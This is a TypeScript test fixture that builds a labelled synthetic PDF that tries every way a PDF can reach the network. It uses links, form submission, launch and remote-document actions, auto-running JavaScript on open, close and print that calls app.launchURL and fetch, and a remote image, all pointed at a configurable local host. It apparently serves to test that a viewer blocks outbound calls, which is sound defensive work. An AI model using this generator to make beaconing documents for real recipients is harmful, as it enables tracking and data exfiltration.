import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'

/**
 * A PDF that tries to reach out in every way that a PDF has: links, a form that submits, scripts on opening, a launch
 * action, a remote document, an image and a file kept elsewhere. Synthetic, and says so on its page.
 * @param away where it would reach, `http://127.0.0.1:1234`
 */
export async function hostilePdf(away: string): Promise<Buffer> {
  const pdf = await PDFDocument.create({ updateMetadata: false })
  const { context } = pdf
  const page = pdf.addPage([612, 792])
  const font = await pdf.embedFont(StandardFonts.Helvetica)
  page.drawText('SYNTHETIC TEST DOCUMENT: it tries to reach out', { x: 72, y: 720, size: 14, font })
  page.drawText('Nothing may leave the machine when this page is shown.', { x: 72, y: 690, size: 12, font })

  const at = (path: string) => PDFString.of(`${away}/${path}`)
  const urlFile = (path: string) => context.obj({ Type: 'Filespec', FS: 'URL', F: at(path) })
  const link = (y: number, action: Record<string, unknown>) =>
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [72, y, 400, y + 14],
        Border: [0, 0, 1],
        A: { Type: 'Action', ...action },
      } as never),
    )
  const script = (path: string) => ({
    S: 'JavaScript',
    JS: PDFString.of(`app.launchURL("${away}/${path}", true); this.submitForm("${away}/${path}"); fetch("${away}/${path}")`),
  })

  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link(640, { S: 'URI', URI: at('link') }),
      link(620, { S: 'GoToR', F: urlFile('remote.pdf'), D: [0, PDFName.of('Fit')] }),
      link(600, { S: 'Launch', F: urlFile('launch') }),
      link(580, { S: 'SubmitForm', F: urlFile('submit') }),
      link(560, { S: 'ImportData', F: urlFile('import') }),
      link(540, script('script')),
    ]),
  )
  const button = context.register(
    context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Btn',
      T: PDFString.of('send'),
      Ff: 65536,
      Rect: [72, 500, 200, 520],
      A: { S: 'SubmitForm', F: urlFile('form') },
    } as never),
  )
  pdf.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [button], NeedAppearances: true }))
  pdf.catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', ...script('open') } as never))
  pdf.catalog.set(PDFName.of('AA'), context.obj({ WC: script('close'), DP: script('print') } as never))
  pdf.catalog.set(PDFName.of('URI'), context.obj({ Base: at('base/') }))

  // An image whose data is said to lie on the network.
  const image = context.stream(new Uint8Array(0), {
    Type: 'XObject',
    Subtype: 'Image',
    Width: 8,
    Height: 8,
    ColorSpace: 'DeviceGray',
    BitsPerComponent: 8,
  })
  image.dict.set(PDFName.of('F'), urlFile('image.raw'))
  page.node.setXObject(PDFName.of('Away'), context.register(image))
  const draw = context.register(context.stream('q 100 0 0 100 300 300 cm /Away Do Q'))
  page.node.addContentStream(draw)
  return Buffer.from(await pdf.save({ useObjectStreams: false }))
}
